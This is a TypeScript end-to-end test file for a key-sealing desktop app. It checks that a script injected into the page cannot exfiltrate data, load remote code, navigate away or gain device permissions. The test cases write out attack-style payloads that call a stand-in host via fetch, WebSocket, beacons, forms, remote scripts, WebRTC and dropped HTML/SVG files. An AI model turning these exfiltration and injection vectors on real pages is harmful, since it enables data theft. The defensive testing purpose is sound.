import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { writeFile } from 'node:fs/promises';
import { type AddressInfo, createServer, type Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest';
import { temporaryFolder } from '../support/home.js';
import { host, launchApp, type RunningApp } from './support/app.js';
import { startStranger } from './support/stranger.js';

describe('a script that got into the page', () => {
  let app: RunningApp;
  let stranger: Awaited<ReturnType<typeof startStranger>>;
  let close: () => Promise<void>;
  beforeAll(async () => {
    stranger = await startStranger();
    const ends: (() => unknown)[] = [];
    const folder = await temporaryFolder((end) => void ends.push(end));
    app = await launchApp({ home: join(folder, 'home') });
    close = async () => {
      await app.close();
      await stranger.close();
      for (const end of ends) await end();
    };
    await app.see('Where your keys will be sealed');
  });
  afterAll(() => close());

  /** As a script of the page's own, from a timer: what the driver evaluates itself is exempt from the policy. */
  const run = (script: string) =>
    app.inPage(
      (page, text) =>
        page.evaluate(
          (body) =>
            new Promise<string>((done) => {
              const work = new Function('done', body) as (done: (got: unknown) => void) => void;
              setTimeout(() => {
                try {
                  work((got) => done(String(got)));
                } catch (error) {
                  done(`refused: ${(error as Error).name}`);
                }
              });
            }),
          text,
        ),
      script.replaceAll('STRANGER', stranger.host),
    );
  const where = () => app.run(({ win }) => win.webContents.getURL(), null);
  const windows = () => app.run(({ electron }) => electron.BrowserWindow.getAllWindows().length, null);

  test.each([
    ['fetch', `fetch('http://STRANGER/fetch').then(() => done('sent'), () => done('refused'))`],
    [
      'fetch without a look at the answer',
      `fetch('http://STRANGER/no-cors', { mode: 'no-cors', method: 'POST', body: 'x' }).then(() => done('sent'), () => done('refused'))`,
    ],
    [
      'XMLHttpRequest',
      `const x = new XMLHttpRequest(); x.onload = () => done('sent'); x.onerror = () => done('refused'); x.open('GET', 'http://STRANGER/xhr'); x.send()`,
    ],
    ['a WebSocket', `const w = new WebSocket('ws://STRANGER/ws'); w.onopen = () => done('sent'); w.onerror = () => done('refused')`],
    [
      'an EventSource',
      `const e = new EventSource('http://STRANGER/events'); e.onopen = () => done('sent'); e.onerror = () => done('refused')`,
    ],
    [
      'a remote image',
      `const i = new Image(); i.onload = () => done('sent'); i.onerror = () => done('refused'); i.src = 'http://STRANGER/image.png'`,
    ],
    [
      'a remote script',
      `const s = document.createElement('script'); s.onload = () => done('sent'); s.onerror = () => done('refused'); s.src = 'http://STRANGER/script.js'; document.head.append(s)`,
    ],
    ['a remote module', `import('http://STRANGER/module.js').then(() => done('sent'), () => done('refused'))`],
    [
      'a remote sheet',
      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = () => done('sent'); l.onerror = () => done('refused'); l.href = 'http://STRANGER/sheet.css'; document.head.append(l)`,
    ],
    ['a font', `const f = new FontFace('x', 'url(http://STRANGER/font.woff2)'); f.load().then(() => done('sent'), () => done('refused'))`],
    [
      'a video',
      `const v = document.createElement('video'); v.onloadeddata = () => done('sent'); v.onerror = () => done('refused'); v.src = 'http://STRANGER/video.mp4'`,
    ],
    [
      'a worker from elsewhere',
      `const w = new Worker('http://STRANGER/worker.js'); w.onmessage = () => done('sent'); w.onerror = () => done('refused')`,
    ],
    [
      'a worker made of text',
      `const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => done('sent'); w.onerror = () => done('refused')`,
    ],
    ['WebTransport', `const t = new WebTransport('https://STRANGER/'); t.ready.then(() => done('sent'), () => done('refused'))`],
    ['eval', `done((0, eval)('"ran"'))`],
    ['a timer of text', `window.hit = 'refused'; try { setTimeout('window.hit = "ran"') } catch {} setTimeout(() => done(window.hit), 50)`],
    [
      'WebAssembly',
      `WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => done('ran'), () => done('refused'))`,
    ],
    [
      'an inline handler',
      `window.hit = 'refused'; const b = document.createElement('b'); try { b.setAttribute('onclick', 'window.hit = "ran"') } catch {} document.body.append(b); b.click(); b.remove(); done(window.hit)`,
    ],
    [
      'an inline script',
      `window.hit = 'refused'; const s = document.createElement('script'); try { s.textContent = 'window.hit = "ran"' } catch {} document.head.append(s); done(window.hit)`,
    ],
    ['document.write', `document.write('<p>x</p>'); done('ran')`],
  ] as const)('H-14, H-15 does not get out or in by %s', async (_, script) => {
    expect(await run(script)).toMatch(/^refused/);
    expect(stranger.reached).toEqual([]);
  });

  test.each([
    ['a beacon', `navigator.sendBeacon('http://STRANGER/beacon', 'x')`],
    [
      'a ping',
      `const a = document.createElement('a'); a.href = '#x'; a.ping = 'http://STRANGER/ping'; document.body.append(a); a.click(); a.remove()`,
    ],
    [
      'a prefetch',
      `for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'prerender', 'icon', 'manifest']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'http://STRANGER/' + rel; document.head.append(l) }`,
    ],
    ['an iframe', `const f = document.createElement('iframe'); f.src = 'http://STRANGER/frame'; document.body.append(f)`],
    [
      'an iframe of text',
      `const f = document.createElement('iframe'); try { f.srcdoc = '<img src=http://STRANGER/srcdoc>' } catch {} document.body.append(f)`,
    ],
    ['an object', `const o = document.createElement('object'); try { o.data = 'http://STRANGER/object' } catch {} document.body.append(o)`],
    ['a background', `document.body.style.backgroundImage = 'url(http://STRANGER/background)'`],
    [
      'a form',
      `const f = document.createElement('form'); f.action = 'http://STRANGER/form'; f.method = 'post'; document.body.append(f); f.submit()`,
    ],
    ['a link', `const a = document.createElement('a'); a.href = 'http://STRANGER/link'; document.body.append(a); a.click()`],
    [
      'a link of another window',
      `const a = document.createElement('a'); a.href = 'http://STRANGER/blank'; a.target = '_blank'; document.body.append(a); a.click()`,
    ],
    [
      'a download',
      `const a = document.createElement('a'); a.href = 'http://STRANGER/download'; a.download = 'x'; document.body.append(a); a.click()`,
    ],
    ['location', `location.href = 'http://STRANGER/location'`],
    [
      'a meta refresh',
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http://STRANGER/meta'; document.head.append(m)`,
    ],
    ['window.open', `window.open('http://STRANGER/open')`],
    ['a service worker', `navigator.serviceWorker.register('http://STRANGER/sw.js')`],
  ] as const)('H-15, H-20, H-21 sends nothing and goes nowhere by %s', async (_, script) => {
    await run(`try { ${script} } catch {} setTimeout(() => done('tried'), 100)`);
    expect(stranger.reached).toEqual([]);
    expect(await where()).toMatch(/^app:\/\/bundle\/index\.html/);
    expect(await windows()).toBe(1);
  });

  test('H-15 sends nothing by WebRTC, which asks no policy: not by UDP, and on Electron not by TCP either', async () => {
    const packets: Buffer[] = [];
    const udp = createSocket('udp4', (packet) => void packets.push(packet));
    udp.bind(0, '127.0.0.1');
    await once(udp, 'listening');
    onTestFinished(() => void udp.close());
    const calls: Socket[] = [];
    const tcp = createServer((call) => void calls.push(call.on('error', () => undefined)));
    tcp.listen(0, '127.0.0.1');
    await once(tcp, 'listening');
    onTestFinished(() => {
      for (const call of calls) call.destroy();
      tcp.close();
    });
    const { port } = tcp.address() as AddressInfo;
    // The stand-in's Chromium has no proxy of a page's own.
    const turn = host === 'electron' ? `, { urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'x', credential: 'x' }` : '';
    await run(`
      const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp.address().port}' }${turn}] });
      p.onicegatheringstatechange = () => { if (p.iceGatheringState === 'complete') done('over') };
      p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))`);
    expect([packets.length, calls.length]).toEqual([0, 0]);
    expect(await app.run(({ win }) => win.webContents.getWebRTCIPHandlingPolicy(), null)).toBe('disable_non_proxied_udp');
  });

  test.each(['middle', 'left'] as const)(
    'H-21 a link under a %s click of the user’s, with Ctrl or not, opens no window',
    async (button) => {
      // Over Chromium a new tab begins to load before the stand-in closes it: there it is an address that nobody has.
      const far = host === 'electron' ? 'STRANGER' : 'stranger.invalid';
      await run(`
      const a = document.createElement('a');
      a.href = 'http://${far}/clicked'; a.id = 'stranger'; a.textContent = 'click'; a.target = '_blank';
      a.className = 'stranger'; document.querySelector('main').prepend(a); done()`);
      await app.inPage(async (page, which) => {
        const link = page.locator('#stranger');
        await link.click({ button: which });
        await link.click({ button: which, modifiers: ['Control'] });
        await link.click({ button: which, modifiers: ['Shift'] });
        await link.evaluate((one) => one.remove());
      }, button);
      expect(stranger.reached).toEqual([]);
      expect(await where()).toMatch(/^app:\/\/bundle\/index\.html/);
      expect(await windows()).toBe(1);
    },
  );

  test('H-25 a web page, an address and a script that are dropped open nothing', async () => {
    const folder = await temporaryFolder(onTestFinished);
    const files = {
      'page.html': `<img src="${stranger.url}/page"><script>location = "${stranger.url}/script"</script>`,
      'address.url': `[InternetShortcut]\nURL=${stranger.url}/url\n`,
      'picture.svg': `<svg xmlns="http://www.w3.org/2000/svg" onload="window.hit=1"><image href="${stranger.url}/svg"/></svg>`,
    };
    for (const [name, text] of Object.entries(files)) {
      await writeFile(join(folder, name), text);
      await app.dropFiles('main', [join(folder, name)]);
      expect(await where(), name).toMatch(/^app:\/\/bundle\/index\.html/);
    }
    expect(stranger.reached).toEqual([]);
    expect(await windows()).toBe(1);
  });

  test.each([
    ['the camera', `navigator.mediaDevices.getUserMedia({ video: true })`],
    ['the microphone', `navigator.mediaDevices.getUserMedia({ audio: true })`],
    ['the place', `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))`],
    ['notifications', `Notification.requestPermission().then((answer) => answer === 'granted' ? 1 : Promise.reject())`],
    ['the clipboard', `navigator.clipboard.readText()`],
    ['MIDI', `navigator.requestMIDIAccess({ sysex: true })`],
    ['USB', `navigator.usb.requestDevice({ filters: [] })`],
    ['a serial port', `navigator.serial.requestPort()`],
    ['HID', `navigator.hid.requestDevice({ filters: [] }).then((all) => all.length ? 1 : Promise.reject())`],
    ['Bluetooth', `navigator.bluetooth.requestDevice({ acceptAllDevices: true })`],
    ['files', `window.showOpenFilePicker()`],
    ['fonts', `window.queryLocalFonts().then((all) => all.length ? 1 : Promise.reject())`],
    ['idleness', `IdleDetector.requestPermission().then((answer) => answer === 'granted' ? 1 : Promise.reject())`],
    ['lasting storage', `navigator.storage.persist().then((yes) => yes ? 1 : Promise.reject())`],
  ] as const)('H-23 is not given %s', async (_, ask) => {
    expect(await run(`Promise.resolve().then(() => ${ask}).then(() => done('given'), () => done('refused'))`)).toBe('refused');
  });

  // Over Chromium the system's own question waits for an answer.
  test.for(host === 'electron' ? ['the screen'] : [])('H-23 is not given %s', async () => {
    expect(await run(`navigator.mediaDevices.getDisplayMedia({ video: true }).then(() => done('given'), () => done('refused'))`)).toBe(
      'refused',
    );
  });

  test('leaves a page that works', async () => {
    await app.fill('New passphrase', 'correct horse battery staple');
    await app.click('button', 'Continue');
    await app.see('Your recovery key');
    expect(stranger.reached).toEqual([]);
  });
});
